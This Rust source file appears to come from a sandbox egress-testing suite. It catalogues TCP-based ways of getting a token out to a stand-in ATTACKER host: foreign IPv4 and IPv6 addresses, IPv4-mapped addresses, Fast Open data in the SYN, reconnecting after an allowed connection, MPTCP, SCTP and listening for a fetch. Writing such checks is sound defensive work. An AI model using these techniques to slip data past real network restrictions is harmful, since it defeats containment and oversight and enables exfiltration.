//! TCP and what else the internet protocol can be made to carry by a socket call.

use std::net::{IpAddr, Ipv4Addr};

use super::call::{
    LISTEN_PORT, at, connect, connected, inet, mapped, open, open_stream, send, send_to, set, wait,
};
use super::{Aid, Aim, Failure, INET, Technique};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, ATTACKER_V6, NOBODY, PROVIDER, PROVIDER_PORT};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("tcp4", "TCP to a foreign IPv4 address", "1", INET, |a| tcp(a, ATTACKER, 443)),
    Technique::wire("tcp6", "TCP to a foreign IPv6 address", "1", INET, |a| {
        tcp(a, ATTACKER_V6, 443)
    }),
    Technique::wire("tcp-mapped", "TCP to ::ffff:a.b.c.d", "2", INET, |a| {
        tcp(a, mapped(ATTACKER), 443)
    }),
    Technique::wire("tcp-other-port", "TCP to the provider, other port", "1", INET, |a| {
        tcp(a, PROVIDER, 8443)
    }),
    Technique::wire("tcp-fast-open", "data in the SYN (MSG_FASTOPEN)", "4", INET, fast_open),
    Technique::wire(
        "fast-open-later",
        "data in the SYN (TCP_FASTOPEN_CONNECT)",
        "4",
        INET,
        fast_open_later,
    ),
    Technique::wire(
        "fast-open-msg",
        "data in the SYN (sendmsg with an address)",
        "4",
        INET,
        fast_open_msg,
    ),
    Technique::wire("reconnect", "connect to the provider, then elsewhere", "1", INET, reconnect),
    Technique::wire("neighbour", "ARP for a made-up neighbour", "16", INET, |a| {
        tcp(a, NOBODY, 443)
    }),
    Technique::wire("mptcp", "Multipath TCP", "5", INET, |a| stream(a, libc::IPPROTO_MPTCP))
        .optional(),
    Technique::wire("sctp", "SCTP", "6", INET, |a| stream(a, libc::IPPROTO_SCTP)).optional(),
    Technique::wire("listen", "listen, and the attacker fetches", "18", INET, listen)
        .aided(Aid::Fetch),
    Technique::calls("bind", "bind a TCP port", "18", INET, bind),
];

/// TCP to any address and port.
pub(super) fn tcp(aim: &Aim, ip: IpAddr, port: u16) -> Result<(), Failure> {
    let fd = open_stream(ip, 0)?;
    connect(aim, &fd, ip, port)?;
    send(aim, &fd)
}

fn stream(aim: &Aim, protocol: i32) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, protocol)?;
    connect(aim, &fd, ATTACKER, 443)?;
    send(aim, &fd)
}

fn fast_open(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    match send_to(&fd, aim.token.as_bytes(), libc::MSG_FASTOPEN, ATTACKER, 443) {
        Err(f) if f.error.raw_os_error() == Some(libc::EINPROGRESS) => connected(aim, &fd),
        other => other,
    }
}

fn fast_open_later(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    set(&fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1i32.to_ne_bytes())?;
    connect(aim, &fd, ATTACKER, 443)?;
    send(aim, &fd)
}

fn fast_open_msg(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(ATTACKER, 0)?;
    let address = inet(ATTACKER, 443);
    match attempt::sendmsg_to(&fd, aim.token.as_bytes(), libc::MSG_FASTOPEN, &address) {
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => connected(aim, &fd),
        other => other.map_err(at("sendmsg")).map(drop),
    }
}

fn reconnect(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(PROVIDER, 0)?;
    // Somebody may listen there or not: what counts is that the call has passed.
    match connect(aim, &fd, PROVIDER, PROVIDER_PORT) {
        Err(failure) if failure.error.raw_os_error() == Some(libc::EPERM) => return Err(failure),
        _ => {}
    }
    let nowhere = super::call::family_bytes(libc::AF_UNSPEC).repeat(8);
    attempt::connect(&fd, &nowhere).map_err(at("disconnect"))?;
    connect(aim, &fd, ATTACKER, 443)?;
    send(aim, &fd)
}

fn listen(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    attempt::bind(&fd, &inet(Ipv4Addr::UNSPECIFIED.into(), LISTEN_PORT)).map_err(at("bind"))?;
    attempt::listen(&fd).map_err(at("listen"))?;
    serve(aim, &fd)
}

/// Waits for someone to fetch the token.
pub(super) fn serve(aim: &Aim, fd: &std::os::fd::OwnedFd) -> Result<(), Failure> {
    wait(aim, fd, libc::POLLIN, "accept")?;
    let peer = attempt::accept(fd).map_err(at("accept"))?;
    send(aim, &peer)
}

fn bind(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    attempt::bind(&fd, &inet(Ipv4Addr::UNSPECIFIED.into(), 7778)).map_err(at("bind"))
}
